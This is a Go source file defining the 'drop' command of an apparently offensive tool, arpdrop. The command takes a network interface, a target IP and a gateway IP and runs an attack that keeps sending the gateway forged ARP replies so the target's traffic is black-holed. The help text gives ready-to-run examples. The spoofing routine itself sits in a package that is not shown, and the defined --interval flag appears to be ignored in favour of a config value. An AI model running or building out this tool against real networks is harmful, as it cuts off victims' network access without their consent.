package cmd

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"os/signal"
	"strconv"
	"syscall"
	"time"

	"github.com/spf13/cobra"

	"firestige.xyz/arpdrop/internal/attack"
	"firestige.xyz/arpdrop/internal/core"
	"firestige.xyz/arpdrop/internal/link"
	"firestige.xyz/arpdrop/internal/log"
)

var (
	interval    time.Duration
	readTimeout time.Duration
)

var dropCmd = &cobra.Command{
	Use:     "drop <interface-index> <target-ipv4> <gateway-ipv4>",
	Aliases: []string{"drop-traffic"},
	Short:   "Black-hole the gateway's traffic for a target",
	Long: `Resolve the gateway's MAC, then keep telling the gateway that the target's
IPv4 address is at this host's MAC. Runs until interrupted or a send fails.

Examples:
  arpdrop drop 2 192.168.1.20 192.168.1.1
  arpdrop drop 2 192.168.1.20 192.168.1.1 --interval 500ms
  arpdrop list-interfaces && arpdrop drop-traffic 3 10.0.0.10 10.0.0.1`,
	Args: cobra.ExactArgs(3),
	RunE: func(cmd *cobra.Command, args []string) error {
		opts, err := parseDropArgs(args)
		if err != nil {
			return err
		}
		opts.Interval = cfg.Spoof.Interval
		opts.ReportEvery = cfg.Spoof.ReportEvery

		ctx, stop := signal.NotifyContext(cmd.Context(), os.Interrupt, syscall.SIGTERM)
		defer stop()
		return runDrop(ctx, newProvider(cfg), opts)
	},
}

func init() {
	dropCmd.Flags().DurationVar(&interval, "interval", attack.DefaultInterval,
		"delay between forged replies")
	dropCmd.Flags().DurationVar(&readTimeout, "read-timeout", link.DefaultOptions().ReadTimeout,
		"poll timeout of a single datalink read")
}

// parseDropArgs validates the positional arguments of drop.
func parseDropArgs(args []string) (attack.Options, error) {
	if len(args) != 3 {
		return attack.Options{}, fmt.Errorf("expected 3 arguments, got %d", len(args))
	}

	index, err := strconv.Atoi(args[0])
	if err != nil || index < 0 {
		return attack.Options{}, fmt.Errorf("%w: %q is not an interface index", core.ErrInvalidInterface, args[0])
	}
	target, err := parseIPv4("target", args[1])
	if err != nil {
		return attack.Options{}, err
	}
	gateway, err := parseIPv4("gateway", args[2])
	if err != nil {
		return attack.Options{}, err
	}

	return attack.Options{InterfaceIndex: index, Target: target, Gateway: gateway}, nil
}

func parseIPv4(role, s string) (netip.Addr, error) {
	addr, err := netip.ParseAddr(s)
	if err != nil {
		return netip.Addr{}, fmt.Errorf("%w: %s %q: %w", core.ErrInvalidAddress, role, s, err)
	}
	if !addr.Is4() {
		return netip.Addr{}, fmt.Errorf("%w: %s %s is not IPv4", core.ErrInvalidAddress, role, addr)
	}
	return addr, nil
}

// runDrop runs the attack until it fails or ctx is cancelled. Cancellation is
// a normal stop.
func runDrop(ctx context.Context, p link.Provider, opts attack.Options) error {
	err := attack.DropTraffic(ctx, p, opts)
	if err != nil && errors.Is(err, context.Canceled) && ctx.Err() != nil {
		log.GetLogger().Info("stopped")
		return nil
	}
	return err
}
